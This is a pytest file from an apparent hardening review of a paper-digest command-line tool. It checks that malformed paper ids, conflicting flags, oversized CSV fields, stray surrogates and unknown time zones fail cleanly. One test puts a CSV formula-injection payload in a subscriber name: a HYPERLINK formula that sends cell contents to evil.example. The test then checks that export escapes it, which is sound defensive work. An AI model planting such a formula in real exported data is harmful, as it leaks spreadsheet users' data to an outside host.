"""Command-line input that used to end in a traceback or be taken wrongly (hardening review):
each is now one line on stderr, a non-zero exit, and nothing stored. In process, through
click's runner, on a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from digest.cli import cli
from digest.store import Store

from .conftest import EXAMPLES, write_settings


def digest(settings: Path, *args: str | Path) -> Result:
    runner = CliRunner()
    return runner.invoke(
        cli, ["--settings", str(settings), *map(str, args)], env={"DIGEST_SETTINGS": None}
    )


def one_line_error(result: Result, code: int, needle: str) -> None:
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("digest: error: ") and needle in lines[0], lines[0]


@pytest.fixture
def settings(tmp_path: Path) -> Path:
    path = write_settings(tmp_path, database=tmp_path / "digest.sqlite")
    assert digest(path, "ingest", EXAMPLES / "dumps").exit_code == 0
    return path


def feedback_rows(settings: Path) -> int:
    with Store.open(settings.parent / "digest.sqlite") as store:
        return int(store.database.execute("SELECT count(*) FROM feedback").fetchone()[0])


@pytest.mark.parametrize("paper", ["²", "9" * 5000, "99999999999999999999999"])
def test_feedback_on_a_paper_id_that_is_no_id_is_one_line(settings: Path, paper: str) -> None:
    one_line_error(
        digest(settings, "feedback", "ada@example.org", paper, "--more"), 7, "no stored paper"
    )
    assert feedback_rows(settings) == 0


def test_feedback_takes_exactly_one_verdict(settings: Path) -> None:
    with Store.open(settings.parent / "digest.sqlite") as store:
        paper = str(store.database.execute("SELECT min(id) FROM papers").fetchone()[0])
    result = digest(settings, "feedback", "ada@example.org", paper, "--more", "--less")
    one_line_error(result, 7, "--more and --less")
    one_line_error(digest(settings, "feedback", "ada@example.org", paper), 7, "exactly one")
    assert feedback_rows(settings) == 0
    assert digest(settings, "feedback", "ada@example.org", paper, "--less").exit_code == 0
    assert feedback_rows(settings) == 1


def _csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_a_csv_with_an_odd_feedback_id_or_a_huge_field_imports_nothing(
    settings: Path, tmp_path: Path
) -> None:
    odd = _csv(tmp_path / "odd.csv", [{"email": "lin@example.org", "more": "²"}])
    one_line_error(digest(settings, "subscribers", "import", odd), 7, "no stored paper")
    huge = _csv(
        tmp_path / "huge.csv",
        [
            {"email": "kim@example.org", "name": "ok"},
            {"email": "x@example.org", "name": "n" * 200_000},
        ],
    )
    one_line_error(digest(settings, "subscribers", "import", huge), 7, "line 3")
    with Store.open(settings.parent / "digest.sqlite") as store:
        assert store.readers.subscriber_rows() == []


def test_a_lone_surrogate_in_a_json_dump_is_stored_as_a_replacement_character(
    settings: Path, tmp_path: Path
) -> None:
    item = {
        "paper": {
            "id": "2501.09999",
            "title": "Graphs \ud800 everywhere",
            "summary": "An abstract \udfff here.",
            "authors": [{"name": "Ada \ud800"}],
            "publishedAt": "2025-01-05T00:00:00.000Z",
            "upvotes": 3,
        },
    }
    dump = tmp_path / "2025-01-05.json"
    dump.write_text(json.dumps([item]))  # ASCII: the surrogate travels as the escape "\ud800"
    assert "\\ud800" in dump.read_text()
    result = digest(settings, "ingest", dump)
    assert result.exit_code == 0, result.output
    with Store.open(settings.parent / "digest.sqlite") as store:
        [paper], _ = store.catalog.find_papers(["2501.09999"])
    assert paper.paper.title == "Graphs \ufffd everywhere"
    assert "Ada \ufffd" in paper.paper.authors


@pytest.mark.parametrize(
    "zone", ["localtime", "posixrules", "right/UTC", "posix/Europe/Berlin", "Factory"]
)
def test_only_iana_zone_names_are_accepted(settings: Path, zone: str) -> None:
    result = digest(settings, "subscribers", "add", "lin@example.org", "--timezone", zone)
    one_line_error(result, 7, "unknown time zone")
    ok = digest(settings, "subscribers", "add", "lin@example.org", "--timezone", "Europe/Berlin")
    assert ok.exit_code == 0, ok.output


def test_exported_cells_never_start_a_formula_and_import_back_as_typed(
    settings: Path, tmp_path: Path
) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    added = digest(
        settings, "subscribers", "add", "lin@example.org", "--name", name, "--interest", "-1 loss"
    )
    assert added.exit_code == 0, added.output
    exported = digest(settings, "subscribers", "export")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    [lin] = [row for row in rows if row["email"] == "lin@example.org"]
    assert lin["name"] == "'" + name and lin["interests"] == "'-1 loss"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    again = tmp_path / "again.csv"
    again.write_text(exported.stdout, encoding="utf-8")
    assert digest(settings, "subscribers", "remove", "lin@example.org").exit_code == 0
    assert digest(settings, "subscribers", "import", again).exit_code == 0
    with Store.open(settings.parent / "digest.sqlite") as store:
        [stored] = store.readers.subscriber_rows("lin@example.org")
    assert stored.name == name
    assert stored.profile["interests"] == [{"phrase": "-1 loss", "weight": 1.0}]
